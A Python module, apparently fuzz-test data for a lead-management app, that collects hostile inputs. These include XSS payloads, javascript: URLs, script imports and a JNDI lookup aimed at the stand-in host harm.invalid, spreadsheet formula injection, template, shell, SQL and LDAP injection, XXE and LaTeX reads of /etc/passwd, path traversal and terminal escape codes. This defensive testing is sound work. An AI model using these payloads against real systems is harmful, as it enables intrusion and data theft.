"""More of what may stand in a lead, put together from the tables of several worlds.

Elements and handlers of HTML, ways to write an address, control sequences of terminals (ECMA-48), format characters of
Unicode, formula starts of spreadsheet programs, template, query and shell languages, paths, numbers that programs take for
something else, and the writing of many peoples.
"""

from __future__ import annotations

import unicodedata

DO = "window.cvtrHarm=1"
ASK = "https://harm.invalid/y"

_ELEMENTS = [
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "input autofocus",
    "details open",
    "iframe",
    "x tabindex=0",
    "object data=x",
]
_HANDLERS = ["onerror", "onload", "onfocus", "onanimationstart", "onpointerover", "ontoggle", "onbeforetoggle", "onfocusin"]
_HANDLED = [f"<{element} {handler}={DO}>" for element in _ELEMENTS for handler in _HANDLERS]
_BROKEN = [
    f"<img src=x onerror={DO}", f"<img src=x onerror={DO} x", f"< img src=x onerror={DO}>", f"<img\x0csrc=x\x0conerror={DO}>",
    f"<img src=x onerror\x00={DO}>", f"<<img src=x onerror={DO}>>", f"</p><img src=x onerror={DO}>", f"--><img src=x onerror={DO}>",
    f"]]><img src=x onerror={DO}>", f"*/</style><img src=x onerror={DO}>", f"</select><img src=x onerror={DO}>",
    f"</option></select><svg onload={DO}>", f"</button><svg onload={DO}>", f"</td><td><svg onload={DO}>", f"</pre><svg onload={DO}>",
    f"<template><img src=x onerror={DO}></template>", f"<noscript><p title='</noscript><img src=x onerror={DO}>'>",
    f"<math><mi//xlink:href='data:x,<script>{DO}</script>'>", f"<table><td background='{ASK}'>", f"<p style='background:url({ASK})'>",
    f"<svg><foreignObject><iframe src={ASK}></iframe></foreignObject></svg>", f"<svg><image href={ASK}></image></svg>",
    f"<portal src={ASK}>", f"<picture><source srcset={ASK}><img></picture>", f"<track src={ASK}>", f"<frameset onload={DO}>",
    f"<isindex action='javascript:{DO}'>", f"<input type=image src={ASK}>", f"<bgsound src={ASK}>", f"<param name=url value={ASK}>",
    f"<script type=module>import '{ASK}'</script>", f"<script>import('{ASK}')</script>", f"<script src=data:,{DO}></script>",
    f"<dialog open><svg onload={DO}></dialog>", "<div class='cvtr-results'>500 confirmed</div>", "<tr data-lead-id='1'><td>Ana",
    "<label for=x>tick me</label>", "<input type=checkbox class=cvtr-row-tick checked>", "<plaintext>", "<xmp>", "<listing>",
    "<title>x</title>", "<base target=_top>", "<slot name=x></slot>", "<my-element></my-element>", "<?xml version='1.0'?>", "<!DOCTYPE x>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "&lt;b&gt;", "&amp;lt;", "&nbsp;&nbsp;", "&#0;", "&#x202e;", "&NotAnEntity;",
]  # fmt: skip
_SCHEMES = [
    "javascript",
    "JAVASCRIPT",
    "java\nscript",
    "java&#10;script",
    "&#106;avascript",
    "\x01javascript",
    "ja\u200bvascript",
]
_ADDRESSES = [f"{scheme}:{DO}" for scheme in _SCHEMES] + [
    f"javascript://%0a{DO}", f"javascript:/*--></title>*/{DO}", f"view-source:{ASK}", f"feed:{ASK}", "intent://x#Intent;end",
    "tel:+4912345", "sms:1", "ftp://harm.invalid/", "\\\\harm.invalid\\share", "http:\\\\harm.invalid", "https:harm.invalid",
    "http://harm.invalid@good.example/", "http://ｈarm.invalid/", "http://[::1]/", "http://127.1/", "data:,x", "about:blank",
    "chrome://settings", "ws://harm.invalid/", "filesystem:x", "/api/v4/leads/1", "?page=2", "#123", "leads/160001",
]  # fmt: skip
_ESC, _CSI, _OSC = "\x1b", "\x1b[", "\x1b]"
_TERMINAL = [
    f"{_CSI}{code}" for code in ("2J", "H", "1;1H", "3J", "?25l", "?1049h", "6n", "c", "5i", "8m", "7m", "38;5;1m", "1000D", "K")
]
_TERMINAL += [f"\x9b{code}" for code in ("2J", "H", "6n")]
_TERMINAL += [
    f"{_OSC}0;title\x07", f"{_OSC}2;title{_ESC}\\", f"{_OSC}8;;{ASK}\x07link{_OSC}8;;\x07", f"{_OSC}52;c;cm0gLXJm\x07",
    f"{_OSC}1337;File=:AA==\x07", f"{_OSC}9;note\x07", f"{_ESC}P$q\"p{_ESC}\\", f"{_ESC}c", f"{_ESC}7{_ESC}8", f"{_ESC}#8",
    f"{_ESC}(0lqqk{_ESC}(B", f"{_ESC}_x{_ESC}\\", f"{_ESC}^x{_ESC}\\", f"{_ESC}X x{_ESC}\\", "\x07" * 50, "\x08" * 50, "done\r0 failed",
    "\x0e\x0f", "\x11\x13", "\x05", "\x7f\x7f", "\x84\x85\x8d\x90\x9d\x9c", "\u2400\u241b", "\\033[2J", "\\e[2J", "^[[2J",
]  # fmt: skip
_FORMAT = [chr(n) for n in [*range(0xA0, 0x2070), *range(0xFE00, 0x10000)] if unicodedata.category(chr(n)) in {"Cf", "Zl", "Zp"}]
_INVISIBLE = [f"Ana{one}Müller" for one in _FORMAT]
_FORMULAS = [
    start + rest
    for start in ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "−", "＠", ";=", '"=', "'=", " =", "%", "|", "\ufeff=")
    for rest in ("1+1", "cmd|'/C calc'!A1")
]
_FORMULAS += ['=IMPORTXML("https://harm.invalid","//a")', '=WEBSERVICE("https://harm.invalid")', '=DDE("x";"y";"z")', "@SUM(1)"]
_LANGUAGES = [
    "${jndi:ldap://harm.invalid/x}", "#{7*7}", "*{7*7}", "@(7*7)", "~{x}", "<#assign x=1>", "{{=7*7}}", "[[${7*7}]]", "{% debug %}",
    "{{config}}", "{{self.__init__.__globals__}}", "${T(java.lang.Runtime)}", "<?php echo 1 ?>", "<% x %>", "__import__('os').system('x')",
    "%s%s%s%n", "%(name)s", "{0.__class__}", "{}", "{name!r}", "$(id)", "`id`", "; id", "| id", "&& id", "> /tmp/x", "$HOME", "!!python/object:x",
    "- !!x", "' OR '1'='1", "1; DROP TABLE leads", "') --", "%' ESCAPE '", "_%_", "*)(uid=*))(|(uid=*", "' or count(//*)", "{\"$gt\":\"\"}",
    "\\", "\\\\", "\\n", "\\'", '\\"', "'", '"', "''", '""', "`", ",", ";", "|", "\t", "{", "[", "a,b;c\td|e",
    "**bold**", "_x_", "~~x~~", "> quote", "1. one", "* one", "---", "<details>", "[x][1]", "[1]: https://harm.invalid", ":smile:", "@ana", "#1",
    "$$x$$", "$x$", "\\textcolor{red}{x}", "\\input{/etc/passwd}", "\\def\\x{\\x}\\x", "%%html", "!ls", "%matplotlib", "?x", "x?",
]  # fmt: skip
_PATHS = [
    "..",
    "../..",
    "..\\..",
    "/",
    "C:\\x",
    "CON",
    "NUL.txt",
    "aux",
    "x.",
    "x ",
    ".x",
    "a/b",
    "a:b",
    "a*b",
    "x\x00.csv",
    "~",
    "-rf",
    "--help",
]
_NUMBERS = [
    "0", "-0", "00", "007", "1e999", "-1e999", "1E5", "1.23E+08", "0x1F", "0b1", "1_000", "1,000", "1.000,00", "١٢٣", "１２３", "½", "Ⅳ", "Infinity",
    "-Infinity", "nan", "NaT", "<NA>", "None", "NULL", "nil", "N/A", "#N/A", "#REF!", "TRUE", "False", "yes", "no", "2026-11-24", "11/24/26",
    "1-2", "MARCH1", "24:00", "9007199254740993", "99999999999999999999", "0.1", "--1", "+49 30 1", "1/0", "€ 5",
]  # fmt: skip
_WRITING = [
    "Ελληνικά", "Кириллица", "日本語のリード", "中文線索", "한국어", "ไทย", "हिन्दी", "தமிழ்", "العربية", "עברית", "Tiếng Việt", "ქართული", "Հայերեն", "አማርኛ",
    "ᠮᠣᠩᠭᠣᠯ", "ភាសាខ្មែរ", "မြန်မာ", "ꦗꦮ", "ᚠᚢᚦ", "𝔘𝔫𝔦", "𓀀", "👩‍👩‍👧‍👦", "🇩🇪🇫", "👍🏽", "ﬁ", "ß", "İıIi", "ǅ", "Å", "Å", "ﷺ", "a̐éö̲", "ａｂｃ", "ⓐ", "🅰", "²",
]  # fmt: skip
MORE: tuple[str, ...] = tuple(
    dict.fromkeys(
        [*_HANDLED, *_BROKEN, *_ADDRESSES, *_TERMINAL, *_INVISIBLE, *_FORMULAS, *_LANGUAGES, *_PATHS, *_NUMBERS, *_WRITING]
    )
)
